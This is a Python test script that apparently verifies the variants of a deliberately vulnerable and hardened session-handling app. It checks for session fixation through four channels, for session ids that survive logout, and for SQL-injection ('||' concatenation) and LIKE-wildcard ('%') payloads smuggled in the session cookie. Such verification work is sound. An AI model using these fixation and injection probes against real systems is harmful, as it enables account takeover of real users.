"""Plain-HTTP truth about one running app, free of sessiongate: python3 takeover.py http://127.0.0.1:8000 vulnerable

Plants an id by each channel, lets alice log in, then reads her profile with that id alone; reads it with her own id in
the disguises that only SQL sees through. Exits 1 if anything is not as this variant must be.
"""

import json
import secrets
import sys
from urllib.error import HTTPError
from urllib.request import Request, urlopen

TAKEN = {
    "vulnerable": {"json", "query", "header", "cookie", "logout"},
    "vulnerable_required": {"json", "logout"},
    "vulnerable_bare": {"json", "logout"},
    "hardened": set(),
    "psycopg2_hardened": set(),
    "asyncpg_hardened": set(),
    "sqlalchemy_hardened": set(),
    "injection": {"joined"},
    "wildcard": {"pattern"},
    "clear_store": set(),
    "expiry_ignored": set(),
    "expiry_honoured": set(),
    "logs_ids": set(),
    "keeps_anonymous": set(),
    "adopts_unknown": set(),
}


def call(base, method, path, body=None, headers=None):
    data = None if body is None else json.dumps(body).encode()
    request = Request(base + path, data, {"Content-Type": "application/json", **(headers or {})}, method=method)
    try:
        with urlopen(request, timeout=30) as answer:
            return answer.status, answer.read().decode(), answer.headers.get("Set-Cookie", "")
    except HTTPError as answer:
        return answer.code, answer.read().decode(), ""


def is_alice(base, cookie):
    status, body, _ = call(base, "GET", "/profile", headers={"Cookie": cookie})
    return status == 200 and json.loads(body)["username"] == "alice"


def login(base, variant, path="/login", headers=None, **members):
    body = {} if variant == "vulnerable_bare" else {"username": "alice", "password": "alice-correct-horse"}
    if variant in ("vulnerable_required", "vulnerable_bare"):
        body["session_id"] = secrets.token_hex(16)
    return call(base, "POST", path, body | members, headers)


def main(base, variant):
    name = "session_id" if variant.startswith("vulnerable") else "__Host-session_id"
    taken = set()
    for channel in ("json", "query", "header", "cookie"):
        planted = secrets.token_hex(16)
        attacker = f"{name}={planted}"
        if is_alice(base, attacker):
            sys.exit(f"{channel}: the planted id is alice before she logged in")
        sent = {
            "json": {"session_id": planted},
            "query": {"path": f"/login?session_id={planted}"},
            "header": {"headers": {"X-Session-ID": planted}},
            "cookie": {"headers": {"Cookie": attacker}},
        }[channel]
        status, _, _ = login(base, variant, **sent)
        if is_alice(base, attacker):
            taken.add(channel)
        print(f"{channel:7} login {status}  {'TAKEN OVER' if channel in taken else 'refused'}")

    victim = login(base, variant)[2].split(";")[0]
    if not is_alice(base, victim):
        sys.exit("alice cannot log in")
    own = victim.removeprefix(f"{name}=")
    for disguise, value in (("joined", f"{own[:9]}'||'{own[9:]}"), ("pattern", own[:-1] + "%")):
        if is_alice(base, f"{name}={value[:-1]}~"):
            sys.exit(f"{disguise}: a changed id is alice")
        if is_alice(base, f"{name}={value}"):
            taken.add(disguise)
        print(f"{disguise:7} {'FOUND' if disguise in taken else 'refused'}")
    call(base, "POST", "/logout", headers={"Cookie": victim})
    if is_alice(base, victim):
        taken.add("logout")
    print(f"logout  {'id STILL ALIVE' if 'logout' in taken else 'id dead'}")
    return taken == TAKEN[variant]


if __name__ == "__main__":
    if len(sys.argv) != 3 or sys.argv[2] not in TAKEN:
        sys.exit(f"usage: takeover.py BASE-URL {'|'.join(TAKEN)}")
    sys.exit(0 if main(sys.argv[1].rstrip("/"), sys.argv[2]) else "not as this variant must be")
